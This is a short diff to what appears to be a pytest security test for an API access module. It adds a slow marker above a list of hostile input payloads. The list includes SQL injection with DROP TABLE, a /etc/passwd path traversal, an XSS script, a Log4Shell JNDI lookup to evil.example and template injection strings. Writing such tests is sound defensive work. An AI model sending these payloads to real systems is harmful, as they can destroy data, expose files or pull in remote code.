@@ -12,6 +12,8 @@ import pytest
 
 from api import access
 
+pytestmark = pytest.mark.slow  # hundreds of hostile requests
+
 PAYLOADS = [
     "' OR '1'='1", "1; DROP TABLE systems; --", "\" OR \"\"=\"", "../../../../etc/passwd", "<script>alert(1)</script>",
     "${jndi:ldap://evil.example/a}", "{{7*7}}", "\x00", "%00", "-1", "99999999999999999999999999", "1e309", "NaN",
